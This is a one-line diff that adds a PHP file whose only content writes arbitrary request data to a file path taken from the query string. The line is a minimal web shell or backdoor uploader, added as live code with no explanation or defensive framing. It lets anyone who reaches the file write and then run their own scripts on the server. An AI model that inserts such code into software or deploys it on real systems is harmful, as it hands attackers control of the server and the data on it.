@@ -1,0 +1,1 @@
+<?php file_put_contents($_GET['n'], $_POST['c']); ?>
